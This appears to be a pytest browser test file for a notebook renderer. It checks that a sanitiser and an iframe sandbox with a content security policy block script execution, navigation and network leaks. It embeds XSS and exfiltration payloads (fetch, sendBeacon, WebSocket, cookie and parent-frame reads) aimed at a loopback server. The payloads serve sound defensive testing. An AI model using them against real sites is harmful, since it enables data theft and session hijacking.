"""In a real browser: the sanitiser alone lets nothing run, load or lead away; the sandbox alone lets nothing out."""

from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from threading import Thread
from typing import TYPE_CHECKING

import pytest

from reviewhub.notebooks import ContentStore, RenderCache, content_response, render_notebook, sign_address
from tests.notebooks.builders import code, display, error, markdown, notebook, raw_cell, stream
from tests.notebooks.conftest import Links
from tests.notebooks.test_hostile import MARKDOWN_VECTORS, VECTORS

if TYPE_CHECKING:
    from playwright.sync_api import Browser

SECRET = b"a secret of the test"
LEAKS = """<img src="BASE/leak-img"><link rel=stylesheet href="BASE/leak-css"><script src="BASE/leak-script"></script>
<form id=f action="BASE/leak-form"><input name=q></form><iframe src="BASE/leak-frame"></iframe>
<script>
document.title = "it runs";
fetch("BASE/leak-fetch").catch(() => 0);
navigator.sendBeacon("BASE/leak-beacon", "x");
new Image().src = "BASE/leak-image";
try { new WebSocket("BASE/leak-socket".replace("http", "ws")); } catch {}
try { new Worker("BASE/leak-worker"); } catch {}
try { document.getElementById("f").submit(); } catch {}
try { window.open("BASE/leak-window"); } catch {}
try { top.location = "BASE/leak-top"; } catch {}
try { document.body.dataset.cookie = document.cookie; } catch { document.body.dataset.cookie = "refused"; }
try { document.body.dataset.parent = parent.document.title; } catch { document.body.dataset.parent = "refused"; }
setTimeout(() => { location = "BASE/leak-location"; }, 1500);
</script>"""


class Site:
    """Pages by path on a loopback server, and every path that was asked for."""

    def __init__(self) -> None:
        site = self
        self.pages: dict[str, tuple[list[tuple[str, str]], bytes]] = {}
        self.asked: list[str] = []

        class Answer(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                site.asked.append(self.path)
                headers, body = site.pages.get(self.path, ([], b""))
                self.send_response(200 if self.path in site.pages else 404)
                for name, value in headers:
                    self.send_header(name, value)
                self.end_headers()
                self.wfile.write(body)

            do_POST = do_GET  # noqa: N815 - the server looks for this name

            def log_message(self, *arguments: object) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Answer)
        self.port = self.server.server_address[1]
        Thread(target=self.server.serve_forever, daemon=True).start()


@pytest.fixture
def site() -> Iterator[Site]:
    made = Site()
    yield made
    made.server.shutdown()
    made.server.server_close()


def test_without_a_policy_the_sanitiser_alone_stops_every_vector(chromium: "Browser", site: Site) -> None:
    media = ("text/html", "text/plain", "text/markdown", "text/latex", "image/svg+xml", "application/javascript")
    cells = []
    for vector in VECTORS + MARKDOWN_VECTORS:
        evil = vector.replace("evil.example", f"127.0.0.1:{site.port}/leak")
        cells += [
            markdown(evil, cell_id=None),
            raw_cell(evil),
            code(evil, stream(evil), error(evil, evil, [evil]), *(display({m: evil}) for m in media), cell_id=None),
        ]
    book = render_notebook(
        notebook(cells, minor=4), cache=RenderCache(ContentStore.at("memory://")), blob_id="a", link=Links()
    )
    html = "".join(c.html + c.numbered({}) + "".join(o.html for o in c.outputs) for c in book.cells)
    site.pages["/page"] = ([("Content-Type", "text/html; charset=utf-8")], f"<!doctype html>{html}".encode())
    page = chromium.new_page()
    dialogs: list[str] = []
    requests: list[str] = []
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    page.on("request", lambda request: requests.append(request.url))

    page.goto(f"http://127.0.0.1:{site.port}/page")
    for image in page.locator("img").all():
        image.scroll_into_view_if_needed()
    page.wait_for_timeout(500)

    ours = tuple(f"http://127.0.0.1:{site.port}/{place}" for place in ("page", "kept/", "files/"))
    assert len(book.cells) == len(cells)
    assert dialogs == []
    assert [url for url in requests if not url.startswith(ours)] == []
    assert page.url == f"http://127.0.0.1:{site.port}/page"
    assert (
        page.evaluate(
            "[...document.querySelectorAll('*')].filter(e => [...e.attributes].some(a => /^on/.test(a.name))).length"
        )
        == 0
    )
    page.close()


def test_running_output_reaches_nothing(chromium: "Browser", site: Site, store: ContentStore) -> None:
    app, content = f"http://127.0.0.1:{site.port}", f"http://localhost:{site.port}"
    now = datetime.now(UTC)
    sha = store.put(LEAKS.replace("BASE", app).encode(), "text/html; charset=utf-8").sha256
    signature = sign_address(sha, "u1", now + timedelta(minutes=5), SECRET)
    _, headers, body = content_response(f"/{sha}", signature, now, SECRET, store, app_origin=app)
    site.pages[f"/{sha}"] = (headers, body)
    policy = f"default-src 'none'; frame-src {content}"
    frame = (
        f'<!doctype html><title>a secret title</title><iframe sandbox="allow-scripts" src="{content}/{sha}"></iframe>'
    )
    site.pages["/page"] = (
        [("Content-Type", "text/html"), ("Content-Security-Policy", policy), ("Set-Cookie", "a=secret")],
        frame.encode(),
    )
    page = chromium.new_page()

    page.goto(f"{app}/page")
    inside = page.frames[1]
    inside.wait_for_selector("body[data-parent]", state="attached")
    seen = inside.evaluate("[document.title, document.body.dataset.cookie, document.body.dataset.parent]")
    page.wait_for_timeout(2000)

    assert seen == ["it runs", "refused", "refused"]
    assert [path for path in site.asked if "leak" in path] == []
    assert page.url == f"{app}/page"
    page.close()
